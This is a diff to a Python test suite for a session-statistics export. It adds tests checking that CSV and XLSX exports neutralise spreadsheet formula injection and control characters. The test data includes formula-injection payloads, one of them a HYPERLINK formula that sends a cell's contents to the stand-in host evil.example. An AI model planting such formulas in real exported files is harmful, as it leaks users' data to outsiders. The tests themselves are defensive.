@@ -1,5 +1,6 @@
 """core.stats: the sessions frame (one query), aggregates, exports read back with pandas, and the CLI."""
 
+import csv
 import io
 import json
 import os
@@ -66,7 +67,7 @@ def test_sessions_frame_has_one_row_per_session_with_report_scores_and_costs(db,
     assert (row["status"], row["status_label"], row["is_complete"]) == ("completed", "已完成", True)
     assert row["score_overall"] == 80 and row["score_knowledge"] == 82 and row["score_fit"] == 90
     assert (row["tokens"], row["cost_usd"], row["model"]) == (1500, pytest.approx(0.0123), "openai/gpt-4o-mini")
-    assert row["message_count"] == 12
+    assert row["message_count"] == 13  # the welcome and six exchanges
     other = frame[frame["session_id"] != done.id].iloc[0]
     assert (other["status"], other["status_label"], other["model"]) == ("in_progress", "进行中", "offline")
     assert other["field"] == "数据分析" and pd.isna(other["score_overall"]) and pd.isna(other["score_logic"])
@@ -389,3 +390,52 @@ def test_only_staff_get_names_and_only_when_the_deployment_allows(roles, setting
 
     settings = load_settings({"DEMO_MODE": "true", "STATS_INCLUDE_NAMES": str(setting).lower()})
     assert export_includes_names(roles, settings) is expected
+
+
+# --- exports are safe to open (issue 11: formula injection, characters XLSX cannot hold) ---------------------
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A2,"Click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1")
+
+
+def _stored_position(db, session, position: str) -> None:
+    """Write a position as an older release (without today's input checks) may have stored it."""
+    from sqlalchemy import update
+
+    db.execute(update(InterviewSession).where(InterviewSession.id == session.id).values(target_position=position))
+    db.commit()
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe(db, engine):
+    for position in FORMULAS:
+        _stored_position(db, make(db, target_position="占位"), position)
+    make(db, target_position="C++ 开发")  # a sign in the middle is plain text, left alone
+
+    text = export_sessions(engine=engine, filters=SessionFilters(), fmt="csv").content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+
+    assert sorted(row["target_position"] for row in rows) == sorted(["'" + p for p in FORMULAS] + ["C++ 开发"])
+
+
+def test_xlsx_cells_that_look_like_formulas_are_quoted_text_shown_as_typed(db, engine):
+    from openpyxl import load_workbook
+
+    for position in FORMULAS:
+        _stored_position(db, make(db, target_position="占位"), position)
+
+    export = export_sessions(engine=engine, filters=SessionFilters(), fmt="xlsx")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    column = [cell.value for cell in sheet[1]].index("target_position") + 1
+    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
+
+    assert sorted(c.value for c in cells) == sorted(FORMULAS)
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, never a formula
+
+
+@pytest.mark.parametrize("fmt", stats.EXPORT_FORMATS)
+def test_one_row_with_control_characters_does_not_break_the_export(db, engine, fmt):
+    bad = make(db, target_position="占位")
+    _stored_position(db, bad, "后端\u000b开发\u0001工程师")
+    make(db, target_position="前端开发工程师")
+
+    back = read_export(export_sessions(engine=engine, filters=SessionFilters(), fmt=fmt), fmt)
+
+    assert sorted(back["target_position"]) == ["前端开发工程师", "后端 开发 工程师"]
